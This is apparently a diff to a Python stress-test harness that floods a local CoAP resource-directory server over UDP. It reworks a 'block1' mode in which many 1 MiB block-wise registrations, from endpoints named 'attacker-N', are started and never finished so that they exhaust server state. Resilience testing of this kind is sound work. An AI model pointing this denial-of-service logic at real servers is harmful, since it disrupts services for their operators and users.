@@ -132,11 +132,13 @@ def drain(socks: list[socket.socket], stats: Stats) -> None:
 
 
 def udp_attack(port: int, rate: float, seconds: float, addrs: list[str],
-               make: Callable[[int], list[bytes]]) -> Stats:
+               make: Callable[[int], list[bytes]], group: int = 1) -> Stats:
+    """Sends ``make(i)`` at ``rate`` a second; ``group`` consecutive ticks share a socket
+    (the blocks of one transfer come from one peer)."""
     stats = Stats()
     socks = udp_sockets(addrs, 4)
     for i in paced(rate, seconds):
-        s = socks[i % len(socks)]
+        s = socks[(i // group) % len(socks)]
         for datagram in make(i):
             try:
                 s.sendto(datagram, ("127.0.0.1", port))
@@ -175,16 +177,13 @@ def hijack(i: int) -> list[bytes]:
 
 
 def block1(i: int) -> list[bytes]:
-    # Each transfer sends blocks 0..3 of a 1 MiB body (1 KiB blocks) and never finishes.
-    path = [(URI_PATH, b"rd")]
-    query = [(URI_QUERY, f"ep=attacker-{i}".encode()), (URI_QUERY, b"lt=300")]
-    token = struct.pack("!I", i)
-    out = []
-    for num in range(4):
-        opts = [*path, *query, (CONTENT_FORMAT, b"\x28"), (BLOCK1, block_value(num, True, 6)),
-                (SIZE1, (1 << 20).to_bytes(3, "big"))]
-        out.append(coap(2, (i * 4 + num) & 0xFFFF, opts, b"<" + b"x" * 1023, token=token))
-    return out
+    # One datagram a tick: transfers of a 1 MiB body in 1 KiB blocks, each sending blocks
+    # 0..3 and never finishing (transfer i // 4, block i % 4).
+    transfer, num = divmod(i, 4)
+    opts = [(URI_PATH, b"rd"), (URI_QUERY, f"ep=attacker-{transfer}".encode()),
+            (URI_QUERY, b"lt=300"), (CONTENT_FORMAT, b"\x28"),
+            (BLOCK1, block_value(num, True, 6)), (SIZE1, (1 << 20).to_bytes(3, "big"))]
+    return [coap(2, i & 0xFFFF, opts, b"<" + b"x" * 1023, token=struct.pack("!I", transfer))]
 
 
 def bigreg_blocks(i: int) -> list[bytes]:
@@ -346,7 +345,8 @@ def main() -> None:
     else:
         make = {"amplify": amplify, "garbage": garbage, "hijack": hijack,
                 "block1": block1}[a.kind]
-        stats = udp_attack(a.port, a.rate, a.seconds, addrs, make)
+        stats = udp_attack(a.port, a.rate, a.seconds, addrs, make,
+                           group=4 if a.kind == "block1" else 1)
     print(stats.line(), flush=True)
 
 
